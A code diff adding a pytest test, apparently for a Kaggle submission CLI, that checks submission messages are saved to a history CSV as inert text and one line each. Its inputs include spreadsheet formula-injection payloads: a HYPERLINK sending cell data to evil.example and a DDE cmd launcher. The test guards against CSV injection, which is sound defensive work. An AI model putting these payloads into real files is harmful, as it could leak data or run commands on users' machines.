@@ -77,6 +77,21 @@ def test_upload_without_wait_and_empty_list(run_cli, fake_kaggle, folders):
     assert row["public_score"] == "" and row["message"] == "quick look"
 
 
+def test_history_keeps_a_formula_as_text_and_one_line_per_submission(run_cli, fake_kaggle, folders):
+    _, subs, path = folders
+    messages = ['=HYPERLINK("http://evil.example/?x="&A1,"see")', "+cmd|' /C calc'!A0\nline2", "-1+2", "@SUM(1)"]
+    messages += ["\tx", "\r=1+1", "a\r\nb", "plain text"]
+    fake_kaggle.daily_limit = len(messages)
+    for message in messages:
+        result = run_cli("submit", path, f"--message={message}", *common(folders))  # `=`: "-1+2" is no option
+        assert result.code == 0, result.err
+    assert [c.body["submissionDescription"] for c in fake_kaggle.calls("CreateSubmission")] == messages
+    stored = ["'" + messages[0], "'+cmd|' /C calc'!A0 line2", "'-1+2", "'@SUM(1)", "'\tx", " =1+1", "a b", "plain text"]
+    assert [row["message"] for row in submission.read_history(subs / "history.csv")] == stored
+    # One line per submission, so line-based tools see one row each too.
+    assert len((subs / "history.csv").read_text(encoding="utf-8").splitlines()) == 1 + len(messages)
+
+
 def test_dry_run_sends_nothing(run_cli, fake_kaggle, folders):
     _, subs, path = folders
     result = run_cli("submit", path, "-m", "try", "--dry-run", *common(folders))
